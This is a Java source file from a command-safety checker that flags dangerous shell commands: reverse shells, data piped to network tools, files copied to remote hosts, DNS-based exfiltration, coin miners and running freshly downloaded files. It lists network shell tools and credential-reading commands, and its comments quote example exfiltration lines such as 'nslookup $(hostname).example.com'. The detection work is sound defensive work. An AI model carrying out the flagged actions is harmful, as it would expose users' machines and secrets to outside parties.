package dev.countersign.safety;

import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;

/// What leaves this machine, and what is let in.
final class NetworkDangers {
    private static final Set<String> SENDERS =
            Set.of(
                    "nc",
                    "ncat",
                    "netcat",
                    "socat",
                    "telnet",
                    "curl",
                    "wget",
                    "ssh",
                    "mail",
                    "mailx",
                    "sendmail",
                    "http",
                    "xh",
                    "rclone",
                    "ftp");
    private static final Set<String> CARRIERS =
            Set.of("nc", "ncat", "netcat", "socat", "telnet", "openssl");
    private static final Set<String> NAMES_ASKED =
            Set.of("dig", "host", "nslookup", "ping", "curl", "wget");
    private static final Set<String> READERS =
            Set.of(
                    "cat",
                    "base64",
                    "base32",
                    "env",
                    "printenv",
                    "xxd",
                    "od",
                    "head",
                    "tail",
                    "tar",
                    "gzip",
                    "openssl",
                    "hexdump",
                    "history",
                    "set",
                    "gpg",
                    "strings");
    private static final Pattern SENDS_INPUT =
            Pattern.compile(
                    "@-|-T-?|--upload-file|--data(-binary|-raw)?=?@-|-d@-|@/dev/stdin|--post-file=-|--post-file=/dev/stdin|-F.*=@-");
    private static final Pattern REMOTE =
            Pattern.compile("([\\w.-]+@)?[\\w.-]{2,}:.*|rsync://.*|.*::.*");
    private static final Pattern MINER =
            Pattern.compile(
                    "(?i)stratum\\+(tcp|ssl)|xmrig|minerd|cpuminer|cgminer|nicehash|cryptonight");
    private static final Pattern CARRIED = Pattern.compile("[`)]\"?\\.[\\w-]+\\.\\w");
    private static final Pattern SHELL_BEHIND = Pattern.compile("(?i)(EXEC|SYSTEM):.*");

    private NetworkDangers() {}

    static void find(JudgedCommand one, List<JudgedCommand> all, List<Danger> found) {
        reverseShell(one, all, found);
        sent(one, all, found);
        copiedOut(one, found);
        asked(one, all, found);
        askedByName(one, found);
        for (ScriptWord word : one.command().words()) {
            if (MINER.matcher(word.shown()).find() && !one.is("grep", "rg", "echo", "pgrep")) {
                found.add(
                        Danger.of(
                                one,
                                "network.miner",
                                RiskLevel.HIGH,
                                "Uses this machine to mine coins for somebody."));
                return;
            }
        }
    }

    private static void reverseShell(
            JudgedCommand one, List<JudgedCommand> all, List<Danger> found) {
        boolean shell = ScriptJudge.SHELLS.contains(one.name());
        boolean overDevice =
                (shell || one.is("exec"))
                        && one.command().redirects().stream()
                                .anyMatch(redirect ->
                                        redirect.target()
                                                .map(word -> Places.isNetworkDevice(word.prefix()))
                                                .orElse(false));
        boolean overCarrier =
                shell
                        && one.readsScript()
                        && all.stream()
                                .anyMatch(other ->
                                        CARRIERS.contains(other.name()) && samePipe(one, other));
        boolean bySocat =
                one.is("socat")
                        && one.rest().stream()
                                .anyMatch(word -> SHELL_BEHIND.matcher(word.shown()).matches());
        if (overDevice || overCarrier || bySocat) {
            found.add(
                    Danger.of(
                            one,
                            "network.shell",
                            RiskLevel.CRITICAL,
                            "Gives whoever is at the other end a shell on this machine."));
        }
    }

    private static boolean samePipe(JudgedCommand one, JudgedCommand other) {
        return one.command().pipeline() >= 0
                && one.command().pipeline() == other.command().pipeline();
    }

    /// What a pipe or a redirect gives to a command that sends it away.
    private static void sent(JudgedCommand one, List<JudgedCommand> all, List<Danger> found) {
        if (!SENDERS.contains(one.name())) {
            return;
        }
        boolean fed =
                one.command().stage() > 0
                        || one.command().redirects().stream()
                                .anyMatch(SimpleCommand.Redirected::readsFile);
        boolean sendsInput =
                one.is("nc", "ncat", "netcat", "socat", "telnet", "mail", "mailx", "sendmail")
                        || one.rest().stream()
                                .anyMatch(word -> SENDS_INPUT.matcher(word.shown()).matches());
        if (fed && sendsInput) {
            boolean onlyText =
                    all.stream()
                            .filter(other ->
                                    samePipe(one, other)
                                            && other.command().stage() < one.command().stage())
                            .allMatch(other -> other.is("echo", "printf", "yes", "sleep"));
            boolean redirected =
                    one.command().redirects().stream()
                            .anyMatch(SimpleCommand.Redirected::readsFile);
            if (!onlyText || redirected) {
                found.add(out(one));
            }
        }
    }

    private static void copiedOut(JudgedCommand one, List<Danger> found) {
        if (!one.is("scp", "rsync", "sftp")) {
            return;
        }
        List<ScriptWord> operands = one.operands();
        if (operands.size() > 1
                && REMOTE.matcher(operands.getLast().shown()).matches()
                && !operands.getLast().shown().matches("[A-Za-z]:[\\\\/].*")) {
            found.add(
                    Danger.of(
                            one,
                            "data.copied-out",
                            RiskLevel.MEDIUM,
                            "Copies files to another machine."));
        }
    }

    /// `curl "https://x/?$(cat file)"`, `dig $(cat file).x`
    private static void asked(JudgedCommand one, List<JudgedCommand> all, List<Danger> found) {
        if (!NAMES_ASKED.contains(one.name())) {
            return;
        }
        for (ScriptWord word : one.rest()) {
            boolean carries =
                    !word.isKnown()
                            && all.stream()
                                    .anyMatch(other ->
                                            READERS.contains(other.name())
                                                    && other.command().start() >= word.start()
                                                    && other.command().end() <= word.end()
                                                    && !other.equals(one));
            if (carries) {
                found.add(out(one));
                return;
            }
        }
    }

    /// `nslookup $(hostname).example.com`: what is asked for carries what a command printed.
    private static void askedByName(JudgedCommand one, List<Danger> found) {
        boolean carries =
                one.is("dig", "host", "nslookup", "drill", "ping")
                        && one.rest().stream()
                                .anyMatch(word ->
                                        !word.isKnown() && CARRIED.matcher(word.text()).find());
        if (carries) {
            found.add(out(one));
        }
    }

    private static Danger out(JudgedCommand one) {
        return Danger.of(
                one, "data.sent", RiskLevel.HIGH, "Sends what it reads to another machine.");
    }

    /// Looks at all commands in their order for what is run after it was downloaded.
    static void findRuns(List<JudgedCommand> all, List<Danger> found) {
        Set<String> files = new HashSet<>();
        for (JudgedCommand one : all) {
            run(one, files, found);
            if (one.is("curl", "wget", "aria2c")) {
                one.command()
                        .redirects()
                        .forEach(redirect ->
                                redirect.target().ifPresent(word -> files.add(bare(word))));
                written(one, files);
            }
        }
    }

    private static void run(JudgedCommand one, Set<String> files, List<Danger> found) {
        if (files.isEmpty() || one.command().words().isEmpty()) {
            return;
        }
        boolean runs =
                files.contains(bare(one.command().words().getFirst()))
                        && one.command().words().getFirst().shown().contains("/");
        boolean interprets =
                (ScriptJudge.SHELLS.contains(one.name())
                                || one.is(
                                        "source",
                                        ".",
                                        "python",
                                        "python3",
                                        "node",
                                        "perl",
                                        "ruby",
                                        "installer",
                                        "dpkg"))
                        && one.rest().stream().anyMatch(word -> files.contains(bare(word)));
        if (runs || interprets) {
            found.add(
                    Danger.of(
                                    one,
                                    "execution.downloaded",
                                    RiskLevel.CRITICAL,
                                    "Runs what it has just downloaded, unseen.")
                            .instead("read the file before it runs"));
        }
    }

    private static void written(JudgedCommand other, Set<String> files) {
        for (Arguments.Argument argument :
                other.arguments().map(Arguments::arguments).orElse(List.of())) {
            if (argument.kind() == ArgumentKind.WRITE) {
                files.add(bare(argument.word()));
            }
            if (argument.kind() == ArgumentKind.HOST) {
                files.add(Names.base(argument.word().shown()));
            }
        }
    }

    private static String bare(ScriptWord word) {
        return Names.base(word.shown());
    }
}
